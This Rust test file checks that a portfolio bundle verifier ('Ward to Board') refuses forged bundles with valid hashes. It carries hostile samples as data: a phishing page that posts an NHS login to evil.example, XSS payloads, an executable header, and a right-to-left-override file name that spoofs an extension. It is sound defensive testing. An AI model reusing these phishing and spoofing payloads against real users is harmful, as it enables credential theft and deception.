//! Bundles whose every hash matches (the manifest rebuilt by whoever changed them) but whose
//! content would fool a reader: a swapped page, attachments of a kind the app never keeps,
//! names that look alike or hide their extension. Each is built here from the valid fixture.

use super::*;
use crate::bundle::{render_html, HTML_PATH, PORTFOLIO_PATH};

/// The valid fixture's files with `change` applied, sealed with a matching manifest.
fn forged(dir: &Path, name: &str, change: impl FnOnce(&mut Vec<(String, Vec<u8>)>)) -> PathBuf {
    let mut files = valid_files();
    change(&mut files);
    seal(dir, name, &files)
}

fn document(files: &[(String, Vec<u8>)]) -> serde_json::Value {
    let json = files
        .iter()
        .find(|(p, _)| p == PORTFOLIO_PATH)
        .expect("json");
    serde_json::from_slice(&json.1).expect("parses")
}

/// Puts `doc` back as portfolio.json, with the page made from it, so only what is tested
/// differs from an honest bundle.
fn set_document(files: &mut [(String, Vec<u8>)], doc: &serde_json::Value) {
    let parsed: PortfolioDocument = serde_json::from_value(doc.clone()).expect("a document");
    for (path, bytes) in files.iter_mut() {
        if path == PORTFOLIO_PATH {
            *bytes = serde_json::to_vec(doc).expect("json");
        } else if path == HTML_PATH {
            *bytes = render_html(&parsed).into_bytes();
        }
    }
}

fn refusal(path: &Path) -> String {
    let error = verify_bundle(path).expect_err("refused");
    assert!(
        matches!(kind(&error), "tampered" | "unsafe"),
        "a refusal, not damage: {error}"
    );
    error.to_string()
}

#[test]
fn the_fixture_pages_are_the_pages_render_html_makes() {
    let dir = tempfile::tempdir().expect("temp dir");
    let sealed = forged(dir.path(), "resealed", |_| {});
    verify_bundle(&sealed).expect("the valid fixture, sealed again, verifies");
}

#[test]
fn a_page_that_is_not_the_one_made_from_the_json_is_refused() {
    let dir = tempfile::tempdir().expect("temp dir");
    let phishing = forged(dir.path(), "phishing", |files| {
        for (path, bytes) in files.iter_mut() {
            if path == HTML_PATH {
                *bytes = b"<!DOCTYPE html><form action=https://evil.example>Re-enter your NHS \
                           login <input name=password></form><script>steal()</script>"
                    .to_vec();
            }
        }
    });
    let error = refusal(&phishing);
    assert!(
        error.contains("portfolio.html: is not the page Ward to Board makes from portfolio.json"),
        "{error}"
    );
    let one_byte = forged(dir.path(), "one-byte", |files| {
        for (path, bytes) in files.iter_mut() {
            if path == HTML_PATH {
                bytes.push(b'\n');
            }
        }
    });
    assert!(
        refusal(&one_byte).contains("is not the page"),
        "byte for byte"
    );
    let without = forged(dir.path(), "no-page", |files| {
        files.retain(|(p, _)| p != HTML_PATH);
    });
    assert!(refusal(&without).contains("portfolio.html: is missing"));
}

#[test]
fn attachments_a_portfolio_never_keeps_are_refused_whatever_their_names_say() {
    let dir = tempfile::tempdir().expect("temp dir");
    let cases: [(&str, &[u8], &str); 5] = [
        (
            "3-page.html",
            b"<script>alert(1)</script>",
            "not a kind of file",
        ),
        ("3-logo.svg", b"<svg onload=alert(1)>", "not a kind of file"),
        ("3-setup.exe", b"MZ\x90\x00", "not a kind of file"),
        ("3-notes.pdf", b"<html><script>", "contents are not one"),
        (
            "3-photo.png",
            b"<svg onload=alert(1)>",
            "contents are not one",
        ),
    ];
    for (name, bytes, expected) in cases {
        let path = format!("attachments/{name}");
        let bundle = forged(dir.path(), name, |files| {
            let mut doc = document(files);
            doc["entries"][0]["attachments"]
                .as_array_mut()
                .expect("a list")
                .push(serde_json::json!({
                    "fileName": name, "mediaType": "application/pdf", "size": bytes.len(),
                    "sha256": sha(bytes), "path": path,
                }));
            set_document(files, &doc);
            files.push((path.clone(), bytes.to_vec()));
        });
        let error = refusal(&bundle);
        assert!(
            error.contains(&format!("{path}: is not a file a portfolio may hold"))
                && error.contains(expected),
            "{name}: {error}"
        );
    }
}

#[test]
fn an_attachment_named_or_listed_as_another_kind_is_refused() {
    let dir = tempfile::tempdir().expect("temp dir");
    // (the PDF attachment's field, its new value, what the refusal says)
    let cases = [
        (
            "fileName",
            "notes.exe",
            "the name is refused: \"notes.exe\" is not a kind of file",
        ),
        (
            "fileName",
            "notes.png",
            "the name is of another kind of file (image/png) from what it holds (application/pdf)",
        ),
        (
            "mediaType",
            "text/html",
            "it is listed as text/html and holds application/pdf",
        ),
        (
            "fileName",
            "evil\u{202E}fdp.exe",
            "the name is refused: it has a name holding the invisible direction mark U+202E",
        ),
    ];
    for (field, value, expected) in cases {
        let bundle = forged(dir.path(), field, |files| {
            let mut doc = document(files);
            doc["entries"][2]["attachments"][0][field] = value.into();
            set_document(files, &doc);
        });
        let error = refusal(&bundle);
        assert!(
            error.contains(expected),
            "{}: {error}",
            value.escape_debug()
        );
    }
    let unlisted = forged(dir.path(), "unlisted", |files| {
        files.push(("attachments/9-hidden.pdf".into(), b"%PDF-1.7".to_vec()));
    });
    assert!(refusal(&unlisted)
        .contains("attachments/9-hidden.pdf: is in the bundle but attached to no entry"));
    let stray = forged(dir.path(), "stray", |files| {
        files.push(("run-me.txt".into(), b"hello".to_vec()));
    });
    assert!(refusal(&stray).contains("run-me.txt: is not part of a bundle"));
}

#[test]
fn names_that_look_alike_or_that_windows_refuses_are_refused() {
    let dir = tempfile::tempdir().expect("temp dir");
    let cases: [(&[&str], &str); 8] = [
        (
            &["attachments/1-WARD-ROTA.png"],
            "same name as `attachments/1-ward-rota.png` once case",
        ),
        (
            &[
                "attachments/3-caf\u{e9}.txt",
                "attachments/3-cafe\u{301}.txt",
            ],
            "once case and Unicode form are set aside",
        ),
        (
            &["attachments/3-evil\u{202E}fdp.exe"],
            "invisible direction mark U+202E",
        ),
        (&["attachments/3-x\u{2067}.txt"], "U+2067"),
        (
            &["attachments/CON.txt"],
            "a name Windows keeps for a device",
        ),
        (&["attachments/lpt1"], "`lpt1`, a name Windows keeps"),
        (&["attachments/3-notes.txt."], "ending in a dot or a space"),
        (&["attachments/3-a?.txt"], "holding `?`"),
    ];
    for (names, expected) in cases {
        let bundle = forged(dir.path(), "names", |files| {
            for name in names {
                files.push(((*name).to_owned(), b"text".to_vec()));
            }
        });
        let error = verify_bundle(&bundle).expect_err("refused");
        assert_eq!(kind(&error), "unsafe", "{error}");
        assert!(
            error.to_string().contains(expected),
            "{}: {error}",
            names[0].escape_debug()
        );
    }
    let long = format!("attachments/3-{}.txt", "a".repeat(300));
    let bundle = forged(dir.path(), "long", |files| {
        files.push((long, b"t".to_vec()))
    });
    assert!(
        verify_bundle(&bundle)
            .expect_err("refused")
            .to_string()
            .contains("a file name may have at most 255 bytes"),
        "a name over 255 bytes"
    );
}

/// Writes `tests/fixtures/bundles/pages/<fixture>.html`, the page `render_html` makes from each
/// verifying fixture's portfolio.json, for make_fixtures.py to put in the bundles: the fixtures
/// are built by Python, apart from the writer under test, but only Rust renders the page.
/// Run by make_fixtures.py (`cargo test -p w2b-core --lib write_fixture_pages -- --ignored`).
#[test]
#[ignore = "rewrites tests/fixtures/bundles/pages; make_fixtures.py runs it"]
fn write_fixture_pages() {
    let pages = fixtures().join("pages");
    std::fs::create_dir_all(&pages).expect("a folder");
    for name in VALID {
        let mut zip = ZipArchive::new(File::open(fixture(name)).expect("opens")).expect("zip");
        let mut json = Vec::new();
        zip.by_name(PORTFOLIO_PATH)
            .expect("a portfolio")
            .read_to_end(&mut json)
            .expect("reads");
        let document: PortfolioDocument = serde_json::from_slice(&json).expect("parses");
        std::fs::write(pages.join(format!("{name}.html")), render_html(&document)).expect("writes");
    }
}
